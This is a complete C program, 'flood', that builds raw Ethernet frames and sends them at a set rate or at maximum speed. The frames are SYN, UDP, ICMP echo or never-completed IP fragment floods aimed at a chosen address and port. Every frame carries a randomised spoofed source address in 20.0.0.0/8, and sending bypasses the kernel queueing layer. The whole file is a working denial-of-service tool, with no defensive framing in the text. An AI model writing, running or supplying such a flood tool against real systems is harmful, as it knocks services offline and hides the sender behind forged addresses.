/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Frames at a rate, or as fast as the machine makes them:
 *
 *   flood syn|fragment|icmp|udp|datagram INTERFACE GATEWAY ADDRESS PORT RATE|max SECONDS
 *
 * From spoofed sources in 20.0.0.0/8, each frame another one, made before the clock starts: SYNs
 * and datagrams to a port, UDP to any port, echo requests, fragments of what never becomes whole.
 * Prints how many were sent and the rate. The gateway's MAC address must be in the ARP table.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAMES    131072u
#define BATCH     64u
#define TOKEN_NS  500000 /* the clock is looked at so often */
#define ETH       14u
#define IP        20u
#define PART      1000u /* bytes of a fragment */
#define FRAME_MAX (ETH + IP + PART)

struct frame {
	uint16_t len;
	uint8_t b[];
};

struct flood {
	const char *kind;
	struct in_addr to;
	uint16_t port;
	uint8_t ether[ETH];
	uint64_t rnd;
	struct frame **frame;
	uint32_t n;
	int fd;
};

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* xorshift64*: the same frames in every run. */
static uint32_t rnd(struct flood *f)
{
	f->rnd ^= f->rnd >> 12;
	f->rnd ^= f->rnd << 25;
	f->rnd ^= f->rnd >> 27;
	return (uint32_t)(f->rnd * 0x2545f4914f6cdd1dull >> 32);
}

static uint32_t sum(uint32_t s, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (size_t i = 0; i < len; i++)
		s += i & 1 ? p[i] : (uint32_t)p[i] << 8;
	return s;
}

static uint16_t folded(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static void ip_header(struct flood *f, uint8_t *at, uint8_t proto, size_t len, uint16_t frag)
{
	struct iphdr ip = {.version = 4,
			   .ihl = 5,
			   .tot_len = htons((uint16_t)(IP + len)),
			   .id = (uint16_t)rnd(f),
			   .frag_off = htons(frag),
			   .ttl = 64,
			   .protocol = proto,
			   .saddr = htonl(0x14000000u | rnd(f) % 0xffff00u | 1u),
			   .daddr = f->to.s_addr};

	ip.check = folded(sum(0, &ip, sizeof(ip)));
	memcpy(at, &ip, sizeof(ip));
}

/* Checksum of a transport header and payload behind its IP header. */
static uint16_t transport_sum(const uint8_t *ip, uint8_t proto, size_t len)
{
	return folded(sum(sum(proto + (uint32_t)len, ip + 12, 8), ip + IP, len));
}

static uint16_t syn(struct flood *f, uint8_t *ip)
{
	uint8_t *at = ip + IP, mss[4] = {2, 4, 1460 >> 8, 1460 & 0xff};
	struct tcphdr h = {.source = htons((uint16_t)(1024 + rnd(f) % 64512)),
			   .dest = htons(f->port),
			   .seq = rnd(f),
			   .doff = 6,
			   .syn = 1,
			   .window = htons(64240)};
	size_t len = sizeof(h) + sizeof(mss);

	ip_header(f, ip, IPPROTO_TCP, len, 0);
	memcpy(at, &h, sizeof(h));
	memcpy(at + sizeof(h), mss, sizeof(mss));
	h.check = transport_sum(ip, IPPROTO_TCP, len);
	memcpy(at, &h, sizeof(h));
	return (uint16_t)(IP + len);
}

static uint16_t datagram(struct flood *f, uint8_t *ip, uint16_t port)
{
	struct udphdr h = {.source = htons((uint16_t)(1024 + rnd(f) % 64512)),
			   .dest = htons(port),
			   .len = htons(sizeof(h) + 32)};

	ip_header(f, ip, IPPROTO_UDP, sizeof(h) + 32, 0);
	memset(ip + IP, 0, sizeof(h) + 32);
	memcpy(ip + IP, &h, sizeof(h));
	h.check = transport_sum(ip, IPPROTO_UDP, sizeof(h) + 32);
	memcpy(ip + IP, &h, sizeof(h));
	return IP + sizeof(h) + 32;
}

static uint16_t echo(struct flood *f, uint8_t *ip)
{
	uint8_t *at = ip + IP;
	uint32_t id = rnd(f);
	uint16_t check;

	ip_header(f, ip, IPPROTO_ICMP, 64, 0);
	memset(at, 0, 64);
	at[0] = 8;
	memcpy(at + 4, &id, 4);
	check = folded(sum(0, at, 64));
	memcpy(at + 2, &check, 2);
	return IP + 64;
}

/* First, second or third part of what never becomes whole. */
static uint16_t fragment(struct flood *f, uint8_t *ip)
{
	ip_header(f, ip, IPPROTO_UDP, PART, (uint16_t)(IP_MF | 185 * (rnd(f) % 3)));
	for (uint32_t i = 0; i < PART; i++)
		ip[IP + i] = (uint8_t)rnd(f);
	return IP + PART;
}

static uint16_t packet(struct flood *f, uint8_t *ip)
{
	if (strcmp(f->kind, "syn") == 0)
		return syn(f, ip);
	if (strcmp(f->kind, "fragment") == 0)
		return fragment(f, ip);
	if (strcmp(f->kind, "icmp") == 0)
		return echo(f, ip);
	return datagram(
		f, ip, strcmp(f->kind, "datagram") == 0 ? f->port : (uint16_t)(1 + rnd(f) % 65535));
}

static void make_frames(struct flood *f)
{
	uint8_t b[FRAME_MAX];

	f->frame = calloc(f->n, sizeof(*f->frame));
	memcpy(b, f->ether, ETH);
	for (uint32_t i = 0; f->frame && i < f->n; i++) {
		uint16_t len = (uint16_t)(ETH + packet(f, b + ETH));

		f->frame[i] = malloc(sizeof(struct frame) + len);
		if (!f->frame[i])
			die("flood");
		f->frame[i]->len = len;
		memcpy(f->frame[i]->b, b, len);
	}
}

/* Ethernet header towards the gateway, as the kernel would write it. */
static void ether_header(struct flood *f, const char *device, const char *gateway)
{
	struct arpreq arp = {0};
	struct ifreq own = {0};
	struct sockaddr_in pa = {.sin_family = AF_INET};
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	inet_pton(AF_INET, gateway, &pa.sin_addr);
	memcpy(&arp.arp_pa, &pa, sizeof(pa));
	snprintf(arp.arp_dev, sizeof(arp.arp_dev), "%s", device);
	snprintf(own.ifr_name, sizeof(own.ifr_name), "%s", device);
	if (ioctl(s, SIOCGARP, &arp) != 0 || !(arp.arp_flags & ATF_COM))
		die("the gateway is not in the ARP table");
	if (ioctl(s, SIOCGIFHWADDR, &own) != 0)
		die(device);
	close(s);
	memcpy(f->ether, arp.arp_ha.sa_data, 6);
	memcpy(f->ether + 6, own.ifr_hwaddr.sa_data, 6);
	f->ether[12] = ETHERTYPE_IP >> 8;
}

static int packet_socket(const char *device)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(device)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;

	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) != 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) != 0)
		die("packet socket");
	return fd;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Sends up to n from the given one on. @return how many the kernel took. */
static uint32_t burst(struct flood *f, uint64_t from, uint32_t n)
{
	struct mmsghdr msg[BATCH] = {0};
	struct iovec iov[BATCH];
	int took;

	for (uint32_t i = 0; i < n; i++) {
		struct frame *x = f->frame[(from + i) % f->n];

		iov[i] = (struct iovec){x->b, x->len};
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
	}
	took = sendmmsg(f->fd, msg, n, MSG_DONTWAIT);
	return took > 0 ? (uint32_t)took : 0;
}

/* rate 0: as fast as it goes. */
static void run(struct flood *f, double rate, double seconds)
{
	static const struct timespec nap = {.tv_nsec = TOKEN_NS};
	uint64_t tried = 0, sent = 0;
	double start = now_s(), now;

	while ((now = now_s() - start) < seconds) {
		uint64_t due = rate > 0 ? (uint64_t)(rate * now) : tried + BATCH;

		while (tried < due) {
			uint32_t n = due - tried < BATCH ? (uint32_t)(due - tried) : BATCH;

			sent += burst(f, tried, n);
			tried += n;
		}
		if (rate > 0)
			nanosleep(&nap, NULL);
	}
	printf("%lu sent in %.1f s, %.0f a second, %lu not taken\n", sent, now, (double)sent / now,
	       tried - sent);
}

int main(int argc, char **argv)
{
	struct flood f = {.rnd = 1, .n = FRAMES};
	double rate, seconds;

	if (argc != 8) {
		fputs("usage: flood syn|fragment|icmp|udp|datagram INTERFACE GATEWAY ADDRESS PORT "
		      "RATE|max SECONDS\n",
		      stderr);
		return 2;
	}
	f.kind = argv[1];
	inet_pton(AF_INET, argv[4], &f.to);
	f.port = (uint16_t)atoi(argv[5]);
	rate = strcmp(argv[6], "max") == 0 ? 0 : atof(argv[6]);
	seconds = atof(argv[7]);
	if (rate > 0 && rate * seconds < FRAMES)
		f.n = (uint32_t)(rate * seconds) + 1;
	ether_header(&f, argv[2], argv[3]);
	make_frames(&f);
	f.fd = packet_socket(argv[2]);
	run(&f, rate, seconds);
	return 0;
}
